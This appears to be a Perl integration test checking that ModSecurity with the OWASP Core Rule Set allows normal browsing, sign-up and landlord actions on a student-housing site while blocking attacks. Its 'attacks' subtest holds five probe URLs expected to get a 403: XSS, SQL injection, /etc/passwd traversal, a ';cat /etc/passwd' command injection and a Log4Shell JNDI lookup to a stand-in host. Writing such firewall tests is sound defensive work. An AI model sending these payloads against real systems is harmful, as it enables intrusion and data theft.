#!/usr/bin/env perl
# Proves that ModSecurity with the OWASP Core Rule Set, told what conf/modsecurity.conf.example says, lets through what people do on the site,
# and still turns attacks away.
use v5.36;
use FindBin;
use lib "$FindBin::Bin/../lib";
use Palace;
use Palace::Crawl;
use Palace::Httpd;
use Palace::Postgres;
use Palace::Visitor;
use Test::More;

my $database = Palace::Postgres->database;
my ($modules) = Palace::Httpd::shared_conf() =~ m{"([^"]+)/mod_mpm_event\.so"};
my $example  = source() . '/conf/modsecurity.conf.example';
# Debian's, with its log where there is a folder.
my $recommended = write_file(scratch() . '/modsecurity.conf', read_file('/etc/modsecurity/modsecurity.conf-recommended') =~ s{^SecAuditLog .*}{}mr
    =~ s{^(SecUnicodeMapFile) }{$1 /etc/modsecurity/}mr);
my $data = scratch() . '/data';
mkdir $data;
chown((getpwnam 'www-data')[2, 3], $data) if !$>;
my $httpd    = Palace::Httpd->new(params => $database->params, more => <<~"CONF")->start;
    LoadModule unique_id_module "$modules/mod_unique_id.so"
    LoadModule security2_module "$modules/mod_security2.so"
    Include "$recommended"
    SecDataDir "$data"
    SecTmpDir "$data"
    SecAuditEngine Off
    Include "$example"
    Include /usr/share/modsecurity-crs/owasp-crs.load
    # The tests know their server by number, which browsers do not.
    SecRuleRemoveById 920350
    CONF
my %browser = ('User-Agent' => 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
    Accept => 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8', 'Accept-Language' => 'en-GB,en;q=0.5', 'Accept-Encoding' => 'identity');
my @as = (at => $httpd->url, headers => \%browser);

# What looks like an attack and is none.
my $prose = qq{It's the landlord's favourite; "select" any room from the list & drop in -- it's <b>great</b>!\r\nC:\\Windows and /etc/passwd are jokes; rent <= £120 pppw, union street, or 1=1 bathroom (sleep(5) minutes from uni).};
my $password = q{' or 1=1; drop table <script>alert(1)</script> ../../etc/passwd};

# What the firewall said since the last time it was asked.
my $heard = 0;
sub refusals () {
    my @all = grep { /ModSecurity: Access denied/ } log_lines($httpd->log);
    my @new = @all[$heard .. $#all];
    $heard = @all;
    return \@new;
}

# done('what', expected status, answer): nobody was turned away.
sub done ($what, $status, $answer) {
    is($answer->{status}, $status, $what);
    is_deeply(refusals(), [], "$what: not turned away") or diag(map { /(\[msg.*?\]).*(\[data.*?\])/ ? "$1 $2\n" : () } log_lines($httpd->log));
    return $answer;
}

subtest 'looking around' => sub {
    my $crawl = Palace::Crawl->new(@as, most => 250)->from('/', '/sitemap.xml', '/robots.txt', '/properties.atom', '/favicon.ico');
    cmp_ok(scalar keys $crawl->answers->%*, '>', 100, 'many addresses');
    is_deeply([grep { $crawl->answers->{$_}{status} !~ /^(?:200|301|302|303)$/ } sort keys $crawl->answers->%*], [], 'all of them answer');
    is_deeply(refusals(), [], 'nobody was turned away');
    my $visitor = Palace::Visitor->new(@as);
    done("search: $_", 200, $visitor->ask("/properties?$_")) for 'city=Leeds&group_size=4&year=2026-27&household=Male&household=Female&ensuite=1&min_price=100&max_price=900&price_per=week&sort=price_asc',
        'city=Newcastle+upon+Tyne', 'city=King%27s+Lynn', 'city=St.%20Andrews%20%26%20Fife';
};

subtest 'accounts' => sub {
    my $visitor = Palace::Visitor->new(@as);
    done('signing up', 303, $visitor->submit('/signup', 'signup', email => "o'neil+rooms\@test.example", password => $password, terms => '1', accept_terms => '1'));
    done('forgotten password', 303, $visitor->submit('/password/forgot', 'forgot', email => 'landlord3@example.com'));
    done('a wrong password', 422, $visitor->submit('/login', 'login', email => 'landlord3@example.com', password => $password));
    done('a link from a mail', 200, $visitor->ask('/password/reset?token=' . 'aZ09_-' x 7));
};

my ($city, $prefix) = ($database->rows(q{select name, min(prefix) from cities join city_postcode_prefixes on city_id = id
    where is_active group by name order by name limit 1}))[0]->@*;
my %house = (title => q{Ann's "best" house; select one!}, letting_type => 'share', bedrooms_total => 2, gender_preference => 'Mixed', city => $city,
    house_number => '12-14', house_name => "O'Brien's", street_name => "St. John's Union Street", postcode => ($prefix =~ /\d$/ ? $prefix : "${prefix}1") . ' 1AB', description => $prose,
    feature1 => '<5 min to uni; cat /tv', feature2 => q{'quoted'}, youtube_url => 'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=1');

subtest 'what landlords do' => sub {
    my $visitor = Palace::Visitor->landlord('landlord1@example.com', 'palace-landlord-demo', @as);
    is_deeply(refusals(), [], 'logging in');
    my ($id) = header(done('a new house', 303, $visitor->submit('/landlord/houses/new', 'house', %house)), 'Location') =~ /house=(\d+)/;
    my $house = "/landlord/houses/$id";
    done('changed', 303, $visitor->submit("$house/edit", 'house', description => "$prose\n$prose"));
    done('a new room', 303, $visitor->submit("$house/rooms/new", 'room', name => "Ann's #1; --", price_pcm => '£1,200', bed_size => 'Double', description => $prose, room_size => q{12' x 10' (3m)}));
    done('the profile', 303, $visitor->submit('/landlord/profile', 'save', display_name => q{O'Neil & "Sons"; select}, bio => $prose, phone => '+44 (0)113 496 0000', website => 'https://www.example.com/rooms?id=1&x=../y'));
    done($_, 200, $visitor->ask($_)) for '/dashboard', '/landlord/houses', '/landlord/account', "$house/rooms";
    my ($note) = grep { /note/ } map { $_->[0] } $visitor->fields('/landlord/accreditations', 'accreditations');
    done('a scheme', 303, $visitor->submit('/landlord/accreditations', 'accreditations', $note =~ s/note/accreditation/r => 'true', $note => q{no. 1' or 1=1 -- <see> ../x}));
    done('taking everything along', 200, $visitor->submit('/landlord/account', 'export'));
    done('another address', 422, $visitor->submit('/landlord/account', 'email', current => $password, new_email => "o'neil\@test.example"));
    done('deleting the house', 303, $visitor->submit("$house/delete", 'delete_house'));
    done('logging out', 303, $visitor->submit('/logout', 'logout'));
};

subtest 'attacks' => sub {
    my $visitor = Palace::Visitor->new(@as);
    for my $attack ('/properties?city=%3Cscript%3Ealert(1)%3C/script%3E', '/properties?city=%27%20or%201=1--%20', '/about?x=../../../../etc/passwd', '/properties?sort=;cat%20/etc/passwd', '/?x=${jndi:ldap://x.example/a}') {
        is($visitor->ask($attack)->{status}, 403, "turned away: $attack");
    }
    is(scalar refusals()->@*, 5, 'and said so');
};

finish(qr/ModSecurity: (?:Access denied|Warning)/);
